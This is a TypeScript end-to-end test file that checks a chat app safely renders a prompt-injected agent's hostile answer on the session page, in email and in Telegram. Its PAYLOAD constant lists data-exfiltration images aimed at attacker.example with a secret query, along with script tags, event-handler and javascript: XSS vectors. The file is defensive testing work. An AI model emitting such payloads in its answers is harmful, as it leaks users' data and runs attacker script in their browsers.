import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { signIn as signInApi, waitFor } from "../support/api.ts";
import { signIn } from "../support/browser.ts";
import { withBrowserStack } from "../support/fixtures.ts";
import { simulatorText } from "./simulator-text.ts";

const ATTACKER = "attacker.example";
const CHAT_ID = 830_001;

/**
 * What a prompt-injected agent answers: images in every form Markdown and raw HTML allow (each one a
 * request to the attacker carrying data), and script, event-handler, `javascript:` and form payloads.
 */
const PAYLOAD = [
  "Here is the report you asked for.",
  "",
  `![x](https://${ATTACKER}/leak.png?d=secret)`,
  "",
  `[1]: https://${ATTACKER}/ref.png`,
  "A reference-style image: ![ref][1]",
  "",
  `Protocol-relative ![proto](//${ATTACKER}/proto.png), data ![data](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) and [![inner](https://${ATTACKER}/inner.png)](https://example.com/page)`,
  "",
  `<img src="https://${ATTACKER}/raw.png" srcset="https://${ATTACKER}/srcset.png 2x" onerror="window.__pwned='onerror'">`,
  `<picture><source srcset="https://${ATTACKER}/source.png"><img src="https://${ATTACKER}/picture.png"></picture>`,
  `<svg><image href="https://${ATTACKER}/svg.png"/></svg>`,
  `<div style="background-image:url(https://${ATTACKER}/css.png)">styled</div>`,
  `<iframe src="https://${ATTACKER}/frame"></iframe>`,
  `<form action="https://${ATTACKER}/form"><input type="image" src="https://${ATTACKER}/input.png"></form>`,
  `<video poster="https://${ATTACKER}/poster.png"></video>`,
  `<link rel="stylesheet" href="https://${ATTACKER}/style.css">`,
  "",
  `<script>window.__pwned = "script"; alert("script")</script>`,
  "",
  `[click me](javascript:window.__pwned='link';alert('link'))`,
  "",
  `<a href="javascript:alert('raw')" onclick="window.__pwned='onclick'">raw link</a>`,
].join("\n");
const MESSAGE = `#sim echo rate=0\n${PAYLOAD}`;

interface Exposure {
  /** Requests to any host but this machine: each one would have reached the attacker. */
  requests: string[];
  dialogs: string[];
}

/** Records (and aborts, so nothing leaves the machine) every request to another host, and every dialog. */
async function watch(page: Page): Promise<Exposure> {
  const exposure: Exposure = { requests: [], dialogs: [] };
  await page.context().route(
    (url) => url.hostname !== "127.0.0.1" && url.hostname !== "localhost",
    async (route) => {
      exposure.requests.push(route.request().url());
      await route.abort();
    },
  );
  page.on("dialog", (dialog) => {
    exposure.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return exposure;
}

/**
 * What could load or run something of the agent's choosing: anywhere in the document, an image not
 * from the page's own origin or an attribute naming the attacker outside a link (a link is fetched
 * only when the user opens it); inside `scope` (where agent text is shown), a loading element, an
 * event-handler attribute or a `javascript:` URL.
 */
function activeContent(page: Page, scope: string): Promise<{ found: string[]; pwned: unknown }> {
  return page.evaluate(
    ([attacker, scope]) => {
      const found: string[] = [];
      const describe = (element: Element, name: string, value: string) =>
        `<${element.tagName.toLowerCase()} ${name}="${value}">`;
      for (const image of Array.from(document.images)) {
        if (!image.src.startsWith(location.origin)) found.push(`img ${image.src}`);
      }
      for (const element of Array.from(document.querySelectorAll("*"))) {
        for (const { name, value } of Array.from(element.attributes)) {
          if (value.includes(attacker) && element.tagName !== "A") found.push(describe(element, name, value));
        }
      }
      const loaders =
        "img, iframe, frame, object, embed, form, video, audio, picture, source, svg, input, link";
      for (const root of Array.from(document.querySelectorAll(scope))) {
        for (const element of Array.from(root.querySelectorAll(loaders))) found.push(element.outerHTML);
        for (const element of [root, ...Array.from(root.querySelectorAll("*"))]) {
          for (const { name, value } of Array.from(element.attributes)) {
            if (name.toLowerCase().startsWith("on") || /^\s*javascript:/i.test(value))
              found.push(describe(element, name, value));
          }
        }
      }
      return { found, pwned: (window as { __pwned?: unknown }).__pwned ?? null };
    },
    [ATTACKER, scope] as const,
  );
}

/** The stack, a worker and Chromium for this file. */
const fixture = withBrowserStack({ env: { CHAT_REQUESTS_PER_MINUTE: "1000" }, worker: "stack" });

/** Links Alice's Telegram to CHAT_ID, as pressing START on the deep link does. */
async function linkAliceTelegram(): Promise<void> {
  const token = await signInApi(fixture.stack.supabaseUrl, "alice@example.com");
  const link = await fetch(`${fixture.stack.appUrl}/api/telegram/link`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}` },
  });
  const { url } = (await link.json()) as { url: string };
  const pressed = await fetch(`${fixture.stack.inbox.url}/api/telegram/start`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({
      token: new URL(url).searchParams.get("start"),
      chatId: CHAT_ID,
      username: "alice_tg",
    }),
  });
  expect(pressed.status).toBe(200);
}

describe("an agent's hostile answer loads and runs nothing", () => {
  let sessionId = "";

  test("the session page shows its images as links, fetches nothing from the attacker and runs nothing", async () => {
    // The simulator answers exactly the payload: the test would prove nothing otherwise.
    expect(await simulatorText(fixture.stack.agentSimUrl, MESSAGE)).toBe(PAYLOAD);
    await linkAliceTelegram();
    const { page, pageErrors, close } = await fixture.newPage();
    const exposure = await watch(page);
    try {
      await signIn(page, fixture.stack.appUrl, "alice@example.com", "overtime-dev");
      await page.goto(`${fixture.stack.appUrl}/chat`);
      await page.getByTestId("composer-input").fill(MESSAGE);
      await page.getByTestId("mode-select").selectOption("background");
      await page.getByTestId("send-button").click();
      await page.waitForURL(/\/sessions\/[0-9a-f-]{36}$/);
      sessionId = new URL(page.url()).pathname.split("/").pop() as string;

      for (const pass of ["streamed", "reloaded"]) {
        if (pass === "reloaded") await page.reload();
        await page
          .locator('[data-testid="session-status"][data-status="completed"]')
          .waitFor({ timeout: 30_000 });
        expect(await page.getByTestId("assistant-raw").textContent(), pass).toBe(PAYLOAD);
        const output = page.getByTestId("assistant-output");
        // The `javascript:` link lost its URL: clicking it does nothing.
        await output.getByText("click me", { exact: true }).click();
        expect({ ...(await activeContent(page, ".transcript")), ...exposure }, pass).toEqual({
          found: [],
          pwned: null,
          requests: [],
          dialogs: [],
        });

        // Each image is a link the user may open (or a label), in place.
        const leak = output.locator(`a.image-link[href="https://${ATTACKER}/leak.png?d=secret"]`);
        expect(await leak.textContent(), pass).toBe(`Image: x (${ATTACKER})`);
        expect(await leak.getAttribute("target")).toBe("_blank");
        expect(await output.locator(`a.image-link[href="https://${ATTACKER}/ref.png"]`).textContent()).toBe(
          `Image: ref (${ATTACKER})`,
        );
        expect(await output.locator(`a.image-link[href="//${ATTACKER}/proto.png"]`).count()).toBe(1);
        expect(await output.locator("span.image-link", { hasText: "Image: data (not loaded)" }).count()).toBe(
          1,
        );
        expect(await output.locator("span.image-link", { hasText: "Image: inner" }).count()).toBe(1);
      }
      expect(pageErrors).toEqual([]);
    } finally {
      await close();
    }
  });

  test("the email and the Telegram message for that answer quote it as text, with nothing to load or run", async () => {
    expect(sessionId).not.toBe("");
    const sessionUrl = `${fixture.stack.appUrl}/sessions/${sessionId}`;
    const [email, telegram] = await waitFor(async () => {
      const all = fixture.stack.inbox.store.messages;
      const email = all.find((message) => message.channel === "email" && message.html?.includes(sessionUrl));
      const telegram = all.find((message) =>
        JSON.stringify(message.replyMarkup ?? null).includes(sessionUrl),
      );
      return email && telegram ? ([email, telegram] as const) : undefined;
    });

    const { page, pageErrors, close } = await fixture.newPage();
    const exposure = await watch(page);
    try {
      await page.setContent(email.html as string, { waitUntil: "load" });
      const shown = (await page.locator("body").textContent()) ?? "";
      expect(shown).toContain(`![x](https://${ATTACKER}/leak.png?d=secret)`);
      expect({ ...(await activeContent(page, "body")), ...exposure }).toEqual({
        found: [],
        pwned: null,
        requests: [],
        dialogs: [],
      });
      expect(pageErrors).toEqual([]);
    } finally {
      await close();
    }
    expect(email.text).toContain(`![x](https://${ATTACKER}/leak.png?d=secret)`);

    // Telegram parses only its own tags: ours are <b> and <blockquote>; the agent's are escaped text.
    const tags = new Set([...(telegram.html ?? "").matchAll(/<\/?([a-z-]+)/gi)].map((match) => match[1]));
    expect([...tags].sort()).toEqual(["b", "blockquote"]);
    expect(telegram.text).toContain(`![x](https://${ATTACKER}/leak.png?d=secret)`);
    expect(telegram.text).toContain(`<img src="https://${ATTACKER}/raw.png"`);
    // Telegram fetches the first URL in a message for a preview unless the bot turns that off.
    expect(telegram.details.linkPreviewDisabled).toBe(true);
  });
});
